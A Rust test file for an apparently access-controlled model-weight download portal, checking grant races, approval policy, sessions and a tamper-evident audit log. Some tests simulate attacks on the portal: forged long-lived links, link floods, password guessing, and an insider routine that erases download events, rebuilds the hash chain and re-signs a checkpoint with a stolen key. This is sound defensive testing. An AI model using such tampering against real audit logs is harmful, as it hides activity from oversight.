        sqlx::query("SELECT pg_advisory_xact_lock(4242001)")
            .execute(&mut *holding)
            .await
            .unwrap();
    }
    (postgres, holding)
}

/// PostgreSQL: returns once one batch waits for the chain's advisory lock.
async fn until_a_batch_waits_for_the_chain(t: &TestApp) {
    let mut waiting = 0_i64;
    for _ in 0..400 {
        waiting =
            sqlx::query_scalar("SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND NOT granted")
                .fetch_one(t.app.db.pool())
                .await
                .unwrap();
        if waiting > 0 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(25)).await;
    }
    assert_eq!(waiting, 1, "the fetch never waited for the chain's lock");
}

both!(a_revocation_committed_while_a_fetch_waits_for_the_chain_refuses_it);
/// A fetch is decided on what the writer believes of its grant; on
/// PostgreSQL that belief is read without the chain's lock and kept from
/// batch to batch. A revocation (here by another replica, or straight in
/// the database) that commits while the fetch's event waits for the lock
/// must still refuse the fetch: the log cannot show a fetch let through
/// after the revocation it follows.
async fn a_revocation_committed_while_a_fetch_waits_for_the_chain_refuses_it() {
    let t = TestApp::spawn().await;
    let access = t.approved_researcher("race@uni.example.edu").await;
    let links = t.download_links(&access).await;
    let (_, link) = &links[2];
    // The writer now knows the grant as live.
    assert_eq!(t.client.get(link).send().await.unwrap().status(), StatusCode::OK);
    let (postgres, mut holding) = hold_the_chain(&t).await;
    let fetch = tokio::spawn(t.client.get(link).send());
    if postgres {
        until_a_batch_waits_for_the_chain(&t).await;
    } else {
        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    }
    sqlx::query("UPDATE grants SET revoked_at = $1, revoked_reason = 'race' WHERE revoked_at IS NULL")
        .bind(weightgate::types::now_ms())
        .execute(&mut *holding)
        .await
        .unwrap();
    holding.commit().await.unwrap();

    let response = fetch.await.unwrap().unwrap();
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
    let body: serde_json::Value = response.json().await.unwrap();
    assert_eq!(body["error"], "grant_revoked");
    let events = t.audit_events().await;
    let fetches: Vec<_> = events.iter().filter(|e| e.action == "file.fetch").collect();
    assert_eq!(fetches.len(), 2, "{fetches:?}");
    assert_eq!(fetches[1].reason.as_deref(), Some("grant_revoked"));
    assert!(t.app.verify_audit_log().await.unwrap().is_intact());
    if postgres {
        let decided_again = t
            .metrics()
            .await
            .lines()
            .find_map(|l| l.strip_prefix("weightgate_audit_batches_decided_again_total "))
            .and_then(|v| v.parse::<f64>().ok())
            .unwrap_or(0.0);
        assert!(decided_again >= 1.0, "the batch was not decided again");
    }
}

both!(a_grant_that_ends_while_a_fetch_waits_for_the_chain_refuses_it);
/// The same race with time: a fetch decided while its grant was live, whose
/// event waits for the chain's lock until after the grant's end, is refused
/// (decided again at the time it can be appended), not let through late.
async fn a_grant_that_ends_while_a_fetch_waits_for_the_chain_refuses_it() {
    let t = TestApp::spawn().await;
    let access = t.approved_researcher("late@uni.example.edu").await;
    let links = t.download_links(&access).await;
    let (_, link) = &links[2];
    let ends = weightgate::types::now_ms() + 800;
    sqlx::query("UPDATE grants SET expires_at = $1")
        .bind(ends)
        .execute(t.app.db.pool())
        .await
        .unwrap();
    // The writer learns the grant's new end.
    for _ in 0..2 {
        assert_eq!(t.client.get(link).send().await.unwrap().status(), StatusCode::OK);
    }
    let (postgres, holding) = hold_the_chain(&t).await;
    let fetch = tokio::spawn(t.client.get(link).send());
    if postgres {
        until_a_batch_waits_for_the_chain(&t).await;
    }
    let wait = ends + 100 - weightgate::types::now_ms();
    tokio::time::sleep(std::time::Duration::from_millis(u64::try_from(wait).unwrap_or(0))).await;
    holding.commit().await.unwrap();

    let response = fetch.await.unwrap().unwrap();
    let status = response.status();
    let events = t.audit_events().await;
    let fetches: Vec<_> = events
        .iter()
        .filter(|e| e.action == "file.fetch")
        .map(|e| (e.at, e.reason.clone()))
        .collect();
    assert_eq!(status, StatusCode::FORBIDDEN, "ends {ends}: {fetches:?}");
    let body: serde_json::Value = response.json().await.unwrap();
    assert_eq!(body["error"], "grant_expired");
    let last = events.iter().rfind(|e| e.action == "file.fetch").unwrap();
    assert_eq!(last.reason.as_deref(), Some("grant_expired"));
    assert!(
        last.at >= ends,
        "recorded at {} before the grant's end {ends}",
        last.at
    );
    assert!(t.app.verify_audit_log().await.unwrap().is_intact());
}

/// The append function checks what a batch was decided on after it takes
/// the chain's lock, which holds only if that check sees what committed
/// before the lock: under an older snapshot (an operator's default of
/// REPEATABLE READ) it refuses to run rather than check the past.
mod the_append_function_refuses_a_snapshot_older_than_its_lock {
    use super::*;

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn postgres() {
        let Some(db) = TestDb::postgres().await else {
            return;
        };
        TEST_DB
            .scope(db, async {
                let t = TestApp::spawn().await;
                let mut tx = t
                    .app
                    .db
                    .pool()
                    .begin_with("BEGIN ISOLATION LEVEL REPEATABLE READ")
                    .await
                    .unwrap();
                let refused =
                    sqlx::query("SELECT * FROM weightgate_audit_append('', 0, '[]', '[]', '[]', '[]')")
                        .execute(&mut *tx)
                        .await
                        .unwrap_err();
                assert!(refused.to_string().contains("needs READ COMMITTED"), "{refused}");
            })
            .await;
    }
}

both!(a_link_valid_for_longer_than_the_portal_makes_them_is_refused);
async fn a_link_valid_for_longer_than_the_portal_makes_them_is_refused() {
    let t = TestApp::spawn().await;
    let access = t.approved_researcher("forever@uni.example.edu").await;
    let links = t.download_links(&access).await;
    let (name, link) = &links[0];
    // What someone holding the signing key would make: a link for ten years.
    let token = link.rsplit('/').nth(1).unwrap();
    let [grant, file, ..] = token.split('.').collect::<Vec<_>>()[..] else {
        panic!("{token}")
    };
    let ten_years = weightgate::types::now_ms() / 1000 + 10 * 365 * 86_400;
    let forged = t.app.links.sign(grant, file, ten_years);
    let response = t
        .client
        .get(t.url(&format!("/dl/{forged}/{name}")))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
    let body: serde_json::Value = response.json().await.unwrap();
    assert_eq!(body["error"], "expiry_too_far");
    // Links as the portal makes them are untouched.
    assert_eq!(t.client.get(link).send().await.unwrap().status(), StatusCode::OK);
}

both!(a_flood_of_made_up_links_writes_a_few_events_not_one_each);
async fn a_flood_of_made_up_links_writes_a_few_events_not_one_each() {
    let t = TestApp::spawn_with(|c| {
        // The window ends when the test says (below), not by the clock.
        c.refusal_window = std::time::Duration::from_secs(3600);
        c.limit_bad_links_per_address = "50/1h".parse().unwrap();
        c.trusted_proxies = "127.0.0.1".parse().unwrap();
    })
    .await;
    let access = t.approved_researcher("flood@uni.example.edu").await;
    let links = t.download_links(&access).await;
    let before = t.audit_events().await.len();
    // One address sends 300 links that name no grant: made up, or altered.
    let (name, link) = &links[0];
    let token = link.rsplit('/').nth(1).unwrap();
    let altered = token.replacen(&token[token.len() - 3..], "AAA", 1);
    let mut statuses = std::collections::BTreeMap::new();
    for n in 0..300 {
        let url = if n % 2 == 0 {
            t.url(&format!("/dl/made-up-{n}/{name}"))
        } else {
            t.url(&format!("/dl/{altered}/{name}"))
        };
        let status = t.client.get(url).send().await.unwrap().status();
        *statuses.entry(status.as_u16()).or_insert(0) += 1;
    }
    assert_eq!(statuses.get(&403), Some(&50), "{statuses:?}");
    assert_eq!(statuses.get(&429), Some(&250), "{statuses:?}");
    // Expired links from another address: refused on the link alone, counted too.
    let (grant, file) = {
        let parts: Vec<&str> = token.split('.').collect();
        (parts[0].to_owned(), parts[1].to_owned())
    };
    let expired = t.app.links.sign(&grant, &file, 1_000);
    let elsewhere = forwarded_client_for("192.0.2.77");
    for _ in 0..20 {
        let response = elsewhere
            .get(t.url(&format!("/dl/{expired}/{name}")))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN);
    }
    // Refusals decided on the grant's state keep an event each.
    for _ in 0..3 {
        let other = link.replacen(name.as_str(), "not-this-file.bin", 1);
        assert_eq!(
            t.client.get(other).send().await.unwrap().status(),
            StatusCode::FORBIDDEN
        );
    }
    // Many networks, one bad link each: past a hundred they share a tally.
    for n in 0..150 {
        let response = forwarded_client_for(&format!("198.51.{}.{}", n / 200, n % 200))
            .get(t.url(&format!("/dl/made-up/{name}")))
            .send()
            .await
            .unwrap();
        let status = response.status();
        assert_eq!(
            status,
            StatusCode::FORBIDDEN,
            "{n}: {}",
            response.text().await.unwrap()
        );
    }
    t.app.refusals.flush(&t.app.audit).await;
    let events = t.audit_events().await;
    let written: Vec<_> = events[before..]
        .iter()
        .filter(|e| e.action == "file.fetch")
        .collect();
    let mine: Vec<_> = written
        .iter()
        .filter(|e| e.client_ip.as_deref() == Some("127.0.0.1") && e.grant_id.is_none())
        .collect();
    // The first of each reason at once, then one summary each.
    assert_eq!(mine.len(), 4, "{mine:#?}");
    let counted: i64 = mine.iter().map(|e| e.occurrences.unwrap_or(1)).sum();
    assert_eq!(counted, 300);
    let expired: Vec<_> = written
        .iter()
        .filter(|e| e.reason.as_deref() == Some("link_expired"))
        .collect();
    assert_eq!(expired.len(), 2, "the first, then one summary: {expired:#?}");
    assert_eq!(
        expired.iter().map(|e| e.occurrences.unwrap_or(1)).sum::<i64>(),
        20
    );
    let named = written
        .iter()
        .filter(|e| e.reason.as_deref() == Some("malformed_link") && e.grant_id.is_some())
        .count();
    assert_eq!(named, 3, "each refusal naming a grant is its own event");
    let networks = written
        .iter()
        .filter(|e| e.client_ip.as_deref().is_some_and(|ip| ip.starts_with("198.51.")))
        .count();
    let others: Vec<_> = written
        .iter()
        .filter(|e| e.client_ip.as_deref() == Some("other networks"))
        .collect();
    assert!(
        networks + others.len() <= weightgate::audit::refusals::MAX_NETWORKS + 2,
        "{networks} + {}",
        others.len()
    );
    let all_counted: i64 = written
        .iter()
        .filter(|e| {
            e.client_ip
                .as_deref()
                .is_some_and(|ip| ip.starts_with("198.51.") || ip == "other networks")
        })
        .map(|e| e.occurrences.unwrap_or(1))
        .sum();
    assert_eq!(all_counted, 150);
    // The operator's report still sees every one of them.
    let (ok, out, err) = weightgate(&t, &["audit", "anomalies", "--format", "jsonl"], None);
    assert!(ok, "{err}");
    assert!(
        out.lines()
            .any(|l| l.contains("127.0.0.1") && l.contains("\"count\":150")),
        "{out}"
    );
    assert!(t.app.verify_audit_log().await.unwrap().is_intact());
}

fn forwarded_client_for(address: &str) -> reqwest::Client {
    crate::hostile::forwarded_client(address)
}

both!(extensions_and_renewals_follow_the_models_approval_policy);
async fn extensions_and_renewals_follow_the_models_approval_policy() {
    use crate::dashboard::{SECOND, second_reviewer, set_policy};
    let t = TestApp::spawn().await;
    let email = "longer@uni.example.edu";
    t.approved_researcher(email).await;
    set_policy(&t, 2, "").await;
    let admin = client();
    t.sign_in(&admin).await;
    let reviewer = second_reviewer(&t, true).await;
    let grant: String = sqlx::query_scalar("SELECT id FROM grants")
        .fetch_one(t.app.db.pool())
        .await
        .unwrap();
    let expires = || async {
        sqlx::query_scalar::<_, i64>("SELECT expires_at FROM grants")
            .fetch_one(t.app.db.pool())
            .await
            .unwrap()
    };
    let before = expires().await;
    let page = format!("/admin/grants/{grant}");
    let extend = format!("/admin/grants/{grant}/extend");

    // Ten years at a stroke is refused, whoever asks.
    let response = t.post_form(&reviewer, &page, &extend, &[("days", "3650")]).await;
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    // Under a two-approval policy one reviewer's extension is a proposal...
    let response = t.post_form(&reviewer, &page, &extend, &[("days", "20")]).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(expires().await, before, "one reviewer alone extends nothing");
    let renewal: String =
        sqlx::query_scalar("SELECT id FROM applications WHERE kind = 'renewal' AND status = 'pending'")
            .fetch_one(t.app.db.pool())
            .await
            .unwrap();
    let again = t.post_form(&reviewer, &page, &extend, &[("days", "20")]).await;
    assert_eq!(
        again.status(),
        StatusCode::CONFLICT,
        "the same reviewer twice is still one approval"
    );
    // ...which a second reviewer completes; the shorter length wins.
    let response = t
        .post_form(
            &admin,
            &format!("/admin/applications/{renewal}"),
            &format!("/admin/applications/{renewal}/approve"),
            &[("days", "10")],
        )
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(expires().await, before + 10 * 86_400_000);
    t.wait_for_mail(email, "is extended").await;

    // A researcher's renewal needs two approvals as well.
    let events = t.audit_events().await;
    assert_eq!(events.iter().filter(|e| e.action == "grant.extended").count(), 1);
    let approvals: Vec<_> = events
        .iter()
        .filter(|e| e.action == "review.approved" && e.application_id.as_deref() == Some(renewal.as_str()))
        .collect();
    assert_eq!(approvals.len(), 2);
    assert!(approvals.iter().any(|e| e.actor.as_deref() == Some(SECOND)));

    // An ended grant is not revived by a reviewer...
    sqlx::query("UPDATE grants SET expires_at = $1")
        .bind(weightgate::types::now_ms() - 1000)
        .execute(t.app.db.pool())
        .await
        .unwrap();
    let response = t.post_form(&reviewer, &page, &extend, &[("days", "5")]).await;
    assert_eq!(response.status(), StatusCode::CONFLICT);
    // ...nor overridden by one who is not an admin...
    let response = t
        .post_form(&reviewer, &page, &extend, &[("days", "5"), ("override", "on")])
        .await;
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
    assert!(expires().await < weightgate::types::now_ms());
    // ...but an admin may, and the log says it was an override.
    let response = t
        .post_form(&admin, &page, &extend, &[("days", "5"), ("override", "on")])
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    let now = weightgate::types::now_ms();
    assert!((now + 4 * 86_400_000..=now + 5 * 86_400_000).contains(&expires().await));
    let overridden = t.wait_for_events("grant.extended", 2).await;
    assert!(
        overridden[1]
            .reason
            .as_deref()
            .is_some_and(|r| r.contains("override")),
        "{:?}",
        overridden[1]
    );
    assert_eq!(overridden[1].actor.as_deref(), Some(REVIEWER));
}

/// What an insider with write access to the database does to hide a
/// researcher's downloads: drops their fetch events, renumbers the rest and
/// recomputes every hash, so that the chain is whole again.
async fn erase_downloads(t: &TestApp, researcher_email: &str) {
    let rows = crate::audit::snapshot(t).await;
    let mut kept: Vec<weightgate::db::audit::EventRow> = rows
        .into_iter()
        .filter(|e| {
            !(e.action.starts_with("file.")
                && e.subject
                    .as_deref()
                    .is_some_and(|s| s.starts_with(researcher_email)))
        })
        .collect();
    let mut prev = weightgate::audit::GENESIS.to_owned();
    for (i, row) in kept.iter_mut().enumerate() {
        row.seq = i as i64 + 1;
        row.prev_hash = prev;
        row.hash = weightgate::audit::event_hash(row);
        prev = row.hash.clone();
    }
    let mut tx = t.app.db.begin().await.unwrap();
    sqlx::query("DELETE FROM audit_events")
        .execute(&mut *tx)
        .await
        .unwrap();
    for r in &kept {
        weightgate::db::audit::insert(&mut tx, r).await.unwrap();
    }
    tx.commit().await.unwrap();
}

both!(an_insider_with_the_database_and_the_key_cannot_rewrite_the_log_unseen);
async fn an_insider_with_the_database_and_the_key_cannot_rewrite_the_log_unseen() {
    let t = TestApp::spawn().await;
    let email = "erased@uni.example.edu";
    let access = t.approved_researcher(email).await;
    for (_, url) in t.download_links(&access).await {
        t.client.get(&url).send().await.unwrap().bytes().await.unwrap();
    }
    t.wait_for_events("file.delivered", 3).await;
    let (ok, _, err) = weightgate(&t, &["audit", "checkpoint"], None);
    assert!(ok, "{err}");
    let (ok, out, err) = weightgate(&t, &["audit", "verify"], None);
    assert!(ok, "{err}");
    assert!(
        out.contains("1 checkpoint(s) held by the witness match the log"),
        "{out}"
    );

    // The insider erases the downloads and rebuilds the chain; with the
    // checkpoint key stolen from the key file, they re-sign the new head
    // and put that checkpoint where the old one was.
    let original: i64 = weightgate::db::audit::head(t.app.db.pool())
        .await
        .unwrap()
        .unwrap()
        .0;
    erase_downloads(&t, email).await;
    // ...padded back to its old length, so that nothing looks cut short.
    loop {
        let (seq, _) = weightgate::db::audit::head(t.app.db.pool())
            .await
            .unwrap()
            .unwrap();
        if seq == original {
            break;
        }
        let mut filler = weightgate::audit::Event::new(
            weightgate::audit::Action::ReviewerSignIn,
            weightgate::audit::Outcome::Refused,
        );
        filler.reason = Some("bad_credentials".into());
        weightgate::audit::append_now(&t.app.db, filler).await.unwrap();
    }
    let kept = crate::audit::snapshot(&t).await;
    let head = kept.last().unwrap();
    assert_eq!(head.seq, original);
    // Asked to sign the rewritten log, with the database's checkpoints
    // gone, the portal refuses: the witness's newest checkpoint does not hold.
    crate::audit::sql(&t, "DELETE FROM audit_checkpoints").await;
    let (ok, _, err) = weightgate(&t, &["audit", "checkpoint"], None);
    assert!(!ok);
    assert!(
        err.contains("no checkpoint was signed") && err.contains("forked history"),
        "{err}"
    );
    let key_text = std::fs::read_to_string(t.app.config.data_dir.join("audit-checkpoint.key")).unwrap();
    let key = weightgate::audit::checkpoint::AuditKey::parse(&key_text).unwrap();
    crate::audit::sql(&t, "DELETE FROM audit_checkpoints").await;
    let resigned = key.sign(head.seq, &head.hash, weightgate::types::now_ms());
    weightgate::db::audit::insert_checkpoint(t.app.db.pool(), &resigned)
        .await
        .unwrap();

    // The chain and the database's checkpoint agree; the witness does not.
    let v = t.app.verify_audit_log().await.unwrap();
    assert!(
        v.problems
            .iter()
            .any(|p| matches!(p, weightgate::audit::Problem::Forked { .. })),
        "{:?}",
        v.problems
    );
    assert!(
        v.problems
            .iter()
            .any(|p| matches!(p, weightgate::audit::Problem::NotWitnessed { .. })),
        "{:?}",
        v.problems
    );
    let (ok, _, err) = weightgate(&t, &["audit", "verify"], None);
    assert!(!ok);
    assert!(err.contains("forked history"), "{err}");
    assert!(err.contains("re-signed checkpoint"), "{err}");
}

both!(cutting_the_newest_events_with_their_checkpoints_leaves_a_missing_tail);
async fn cutting_the_newest_events_with_their_checkpoints_leaves_a_missing_tail() {
    let t = TestApp::spawn().await;
    let access = t.approved_researcher("tail@uni.example.edu").await;
    let (_, first) = t.download_links(&access).await.remove(0);
    let (ok, _, err) = weightgate(&t, &["audit", "checkpoint"], None);
    assert!(ok, "{err}");
    let before: i64 = weightgate::db::audit::head(t.app.db.pool())
        .await
        .unwrap()
        .unwrap()
        .0;
    t.client.get(&first).send().await.unwrap().bytes().await.unwrap();
    t.wait_for_events("file.delivered", 1).await;
    let (ok, _, err) = weightgate(&t, &["audit", "checkpoint"], None);
    assert!(ok, "{err}");
    let after: i64 = weightgate::db::audit::head(t.app.db.pool())
        .await
        .unwrap()
        .unwrap()
        .0;
    assert!(after > before);

    // The download's events and the checkpoint that signed them go: what is
    // left is a whole chain with a whole checkpoint, and no key was needed.
    crate::audit::sql(&t, &format!("DELETE FROM audit_events WHERE seq > {before}")).await;
    crate::audit::sql(&t, &format!("DELETE FROM audit_checkpoints WHERE seq > {before}")).await;
    let v = t.app.verify_audit_log().await.unwrap();
    assert!(
        v.problems.iter().any(|p| matches!(p, weightgate::audit::Problem::Truncated { checkpoint_seq, log_end: Some(end), .. } if *checkpoint_seq == after && *end == before)),
        "{:?}",
        v.problems
    );
    let (ok, _, err) = weightgate(&t, &["audit", "verify"], None);
    assert!(!ok);
    assert!(
        err.contains(&format!(
            "the log was truncated: the checkpoint in the witness object audit-witness/{after:020}."
        )),
        "{err}"
    );
    assert!(
        err.contains(&format!(
            "says the log reached event {after}, but it ends at event {before}"
        )),
        "{err}"
    );
}

both!(each_checkpoint_goes_to_a_locked_witness_and_the_key_is_published);
async fn each_checkpoint_goes_to_a_locked_witness_and_the_key_is_published() {
    let server = crate::storage::S3Server::start_with_object_lock().await;
    let outside = tempfile::tempdir().unwrap();
    let file = outside.path().join("witness.jsonl");
    let t = TestApp::spawn_with(|c| {
        server.configure(c);
        c.witness_file = Some(file.clone());
        c.witness_email = "auditor@lab.example.org".into();
    })
    .await;
    t.approved_researcher("witnessed@uni.example.edu").await;
    // The operator's commands run with the portal's settings.
    let c = &t.app.config;
    let env = [
        ("WEIGHTGATE_STORAGE_URL", c.storage_url.clone().unwrap()),
        ("WEIGHTGATE_S3_ENDPOINT", c.s3_endpoint.clone().unwrap()),
        ("WEIGHTGATE_S3_PATH_STYLE", "true".to_owned()),
        ("WEIGHTGATE_S3_ACCESS_KEY_ID", c.s3_access_key_id.clone().unwrap()),
        (
            "WEIGHTGATE_S3_SECRET_ACCESS_KEY",
            c.s3_secret_access_key.clone().unwrap(),
        ),
        ("WEIGHTGATE_WITNESS_FILE", file.display().to_string()),
        ("WEIGHTGATE_WITNESS_EMAIL", c.witness_email.clone()),
    ];
    let weightgate = |args: &[&str]| crate::cli::weightgate_with(&t, args, None, &env);
    let (ok, out, err) = weightgate(&["audit", "checkpoint", "--format", "jsonl"]);
    assert!(ok, "{err}\n{:?}", server.calls());
    let signed: serde_json::Value = serde_json::from_str(out.trim()).unwrap();
    let seq = signed["seq"].as_i64().unwrap();

    // In the bucket, locked in compliance mode for seven years...
    let puts: Vec<String> = server
        .calls()
        .into_iter()
        .filter(|c| c.contains("audit-witness/"))
        .collect();
    assert_eq!(puts.len(), 1, "{puts:?}");
    let this_year = time::OffsetDateTime::now_utc().year();
    assert!(
        puts[0].contains(&format!("lock COMPLIANCE until {}", this_year + 7)),
        "{puts:?}"
    );
    assert!(puts[0].contains(&format!("audit-witness/{seq:020}.")), "{puts:?}");
    // ...in the witness file, and in the auditors' mail.
    let lines = std::fs::read_to_string(&file).unwrap();
    let line: serde_json::Value = serde_json::from_str(lines.trim()).unwrap();
    assert_eq!(line["signature"], signed["signature"]);
    let mail = t
        .wait_for_mail("auditor@lab.example.org", &format!("checkpoint of event {seq}"))
        .await;
    assert!(mail.contains(signed["hash"].as_str().unwrap()));

    // Anyone can read the public key; with it alone, away from the portal's
    // key file, verify checks the database and the witness.
    let published = t
        .client
        .get(t.url("/.well-known/weightgate/audit-checkpoint.pub"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let (public_key, kid) = published.trim().split_once("  ").unwrap();
    assert_eq!(public_key, signed["public_key"].as_str().unwrap());
    assert_eq!(kid, signed["kid"].as_str().unwrap());
    let (ok, printed, _) = weightgate(&["audit", "public-key"]);
    assert!(ok);
    assert_eq!(printed.trim(), published.trim());
    let (ok, out, err) = weightgate(&["audit", "verify"]);
    assert!(ok, "{err}");
    assert!(
        out.contains("2 checkpoint(s) held by the witness match the log"),
        "{out}"
    );
    // The key is nowhere in the database.
    let seed = std::fs::read_to_string(t.app.config.data_dir.join("audit-checkpoint.key")).unwrap();
    for table in ["signing_keys", "audit_checkpoints", "audit_events", "outbox"] {
        let rows: Vec<String> = sqlx::query_scalar(sqlx::AssertSqlSafe(format!(
            "SELECT CAST(COUNT(*) AS TEXT) FROM {table}"
        )))
        .fetch_all(t.app.db.pool())
        .await
        .unwrap();
        assert!(!rows.is_empty());
    }
    let secrets: Vec<String> = sqlx::query_scalar("SELECT secret FROM signing_keys")
        .fetch_all(t.app.db.pool())
        .await
        .unwrap();
    assert!(secrets.iter().all(|s| s.trim() != seed.trim()));
}

both!(a_session_ended_stays_ended);
async fn a_session_ended_stays_ended() {
    let t = TestApp::spawn().await;
    // A request that loaded the session before its owner signed out saves
    // it after: the session must not come back.
    let pool = t.app.db.pool();
    let far = weightgate::types::now_ms() + 3_600_000;
    assert!(
        weightgate::db::sessions::create(pool, "ended-session", "{}", far)
            .await
            .unwrap()
    );
    weightgate::db::sessions::delete(pool, "ended-session")
        .await
        .unwrap();
    weightgate::db::sessions::save(pool, "ended-session", "{\"reviewer_id\":\"x\"}", far)
        .await
        .unwrap();
    assert!(
        weightgate::db::sessions::load(pool, "ended-session", 0)
            .await
            .unwrap()
            .is_none()
    );

    // Disabling an account ends its sessions; enabling it again does not
    // bring them back.
    let second = crate::dashboard::second_reviewer(&t, true).await;
    let (status, _) = t.get_html(&second, "/admin").await;
    assert_eq!(status, StatusCode::OK);
    for change in ["disable", "enable"] {
        let (ok, _, err) = weightgate(&t, &["reviewer", change, crate::dashboard::SECOND], None);
        assert!(ok, "{err}");
    }
    let response = second.get(t.url("/admin")).send().await.unwrap();
    assert_eq!(response.url().path(), "/admin/login");
}

both!(an_approval_counts_only_while_its_reviewer_may_still_decide);
async fn an_approval_counts_only_while_its_reviewer_may_still_decide() {
    use crate::dashboard::{SECOND, second_reviewer, set_policy};
    let t = TestApp::spawn().await;
    set_policy(&t, 2, "").await;
    let second = second_reviewer(&t, true).await;
    t.apply_and_confirm("waits@uni.example.edu").await;
    let admin = client();
    t.sign_in(&admin).await;
    let id = t.pending_application(&admin, "waits@uni.example.edu").await;
    let page = format!("/admin/applications/{id}");
    let approve = format!("/admin/applications/{id}/approve");
    assert_eq!(
        t.post_form(&second, &page, &approve, &[]).await.status(),
        StatusCode::OK
    );
    // The second reviewer is taken off the model; their approval no longer counts.
    let (ok, _, err) = weightgate(&t, &["reviewer", "unassign", SECOND, MODEL], None);
    assert!(ok, "{err}");
    assert_eq!(
        t.post_form(&admin, &page, &approve, &[]).await.status(),
        StatusCode::OK
    );
    let grants: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM grants")
        .fetch_one(t.app.db.pool())
        .await
        .unwrap();
    assert_eq!(grants, 0, "one approval that counts is not two");
    let (_, detail) = t.get_html(&admin, &page).await;
    assert!(detail.contains("needs 2 approvals"), "{detail}");
}

both!(a_stolen_session_cannot_guess_the_password_at_speed);
async fn a_stolen_session_cannot_guess_the_password_at_speed() {
    let t = TestApp::spawn().await;
    let session = client();
    t.sign_in(&session).await;
    let mut statuses = Vec::new();
    for n in 0..7 {
        let guess = format!("guess number {n} of many");
        let response = t
            .post_form(
                &session,
                "/admin/account",
                "/admin/account/password",
                &[
                    ("current", guess.as_str()),
                    ("new", "a brand new reviewer password"),
                    ("again", "a brand new reviewer password"),
                ],
            )
            .await;
        statuses.push(response.status());
    }
    // The sign-in before counted as an attempt that succeeded: five wrong
    // guesses are checked, then the account waits.
    assert_eq!(
        statuses[..5],
        [StatusCode::UNPROCESSABLE_ENTITY; 5],
        "{statuses:?}"
    );
    assert_eq!(statuses[5..], [StatusCode::TOO_MANY_REQUESTS; 2], "{statuses:?}");
    let refused = t
        .audit_events()
        .await
        .iter()
        .filter(|e| e.action == "reviewer.password_changed" && e.outcome == "refused")
        .count();
    assert_eq!(refused, 5, "every wrong guess is in the log");
}

both!(a_portal_whose_checkpoint_key_went_missing_does_not_start_over);
async fn a_portal_whose_checkpoint_key_went_missing_does_not_start_over() {
    let t = TestApp::spawn().await;
    t.approved_researcher("key@uni.example.edu").await;
    let (ok, _, err) = weightgate(&t, &["audit", "checkpoint"], None);
    assert!(ok, "{err}");
    std::fs::remove_file(t.app.config.data_dir.join("audit-checkpoint.key")).unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_weightgate"))
        .arg("serve")
        .env("WEIGHTGATE_DATA_DIR", &t.app.config.data_dir)
        .env("WEIGHTGATE_DATABASE_URL", t.app.config.database_url())
        .env("WEIGHTGATE_BIND", "127.0.0.1:0")
        .env("WEIGHTGATE_LOG", "warn")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("the audit checkpoint key is missing") && err.contains("restore the key"),
        "{err}"
    );
    assert!(
        !t.app.config.data_dir.join("audit-checkpoint.key").exists(),
        "no new key was made"
    );
}
